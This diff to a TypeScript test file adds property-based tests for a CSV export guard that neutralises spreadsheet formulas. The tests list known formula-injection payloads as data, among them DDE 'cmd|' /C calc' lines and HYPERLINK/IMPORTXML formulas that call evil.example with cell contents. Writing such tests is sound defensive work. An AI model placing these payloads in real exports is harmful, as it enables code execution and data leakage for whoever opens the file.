@@ -28,7 +28,116 @@ describe('csvField', () => {
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
     expect(csvField('=1+1')).toBe("'=1+1");
     expect(EXPORT_HEADER.map(csvField).join(',')).toBe(
-      'First name,Last name,Email,Country,Postal code,Comment,Opted in,Signed at (UTC)',
+      'First name,Last name,Email,Country,Country code,Postal code,Comment,Opted in,Consent version,Signed at (UTC),Signed at (ISO 8601)',
     );
+  });
+});
+
+// The guard (see the comment in csv.ts): an apostrophe before anything a spreadsheet would evaluate,
+// and nothing added to words that cannot be.
+describe('neutraliseFormula', () => {
+  const anyText = fc.string({
+    unit: fc.constantFrom('a', 'Z', 'é', '李', ' ', ',', '.', '(', ')', '|', '!', '"', "'", '1', '=', '+', '-', '@'),
+  });
+  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+  /** What lets a formula call, reach or compute something: a call, DDE, a reference, a number, a string, an operator. */
+  const ACTIVE = [
+    '(',
+    ')',
+    '|',
+    '!',
+    '[',
+    ']',
+    ':',
+    '"',
+    '&',
+    '*',
+    '/',
+    '^',
+    '<',
+    '>',
+    '%',
+    '#',
+    '$',
+    ';',
+    '=',
+    '0',
+    '7',
+  ];
+
+  it('any text → unchanged, or the same text after one apostrophe', () => {
+    fc.assert(
+      fc.property(anyText, (value) => {
+        const out = neutraliseFormula(value);
+        expect(out === value || out === `'${value}`).toBe(true);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('"=", tab, carriage return or line feed first, even after spaces → always guarded', () => {
+    const start = fc.constantFrom('=', '＝', '\t', '\r', '\n');
+    fc.assert(
+      fc.property(fc.stringMatching(/^ {0,3}$/), start, anyText, (spaces, first, rest) => {
+        expect(neutraliseFormula(`${spaces}${first}${rest}`)).toBe(`'${spaces}${first}${rest}`);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('a trigger first and anything active anywhere after it → guarded', () => {
+    fc.assert(
+      fc.property(fc.constantFrom(...TRIGGERS), anyText, fc.constantFrom(...ACTIVE), anyText, (first, a, c, b) => {
+        const value = `${first}${a}${c}${b}`;
+        expect(neutraliseFormula(value)).toBe(`'${value}`);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('"+", "-" or "@" and then two or more words of letters → left as typed', () => {
+    const word = fc.string({
+      unit: fc.constantFrom('a', 'Z', 'é', 'ß', 'Ж', 'ы', '李', 'ع', 'न'),
+      minLength: 1,
+      maxLength: 8,
+    });
+    fc.assert(
+      fc.property(
+        fc.constantFrom('-', '+', '@', '- ', '-- ', '＠'),
+        fc.array(word, { minLength: 2, maxLength: 6 }),
+        (sign, words) => {
+          const value = `${sign}${words.join(' ')}`;
+          expect(neutraliseFormula(value)).toBe(value);
+        },
+      ),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('known payloads and near misses → guarded; plain words → not', () => {
+    const guarded = [
+      "=cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+9)*cmd|' /C calc'!A0",
+      '=HYPERLINK("http://evil.example?"&A1,"Click")',
+      '-HYPERLINK("http://evil.example")',
+      '+IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
+      '=1+2";=1+2',
+      ' =1+1',
+      '+1',
+      '-1',
+      '+44 20 7946 0958',
+      '-A1',
+      '@A1',
+      '-TRUE',
+      '-stop',
+      '-stop it!',
+      '-',
+      '@',
+    ];
+    for (const value of guarded) expect(neutraliseFormula(value), value).toBe(`'${value}`);
+    const plain = ['-stop it', '- stop it', '@Amazon stop this', '+ je signe', '-Ольга Петрова', "-don't stop.", 'Ada'];
+    for (const value of plain) expect(neutraliseFormula(value), value).toBe(value);
   });
 });
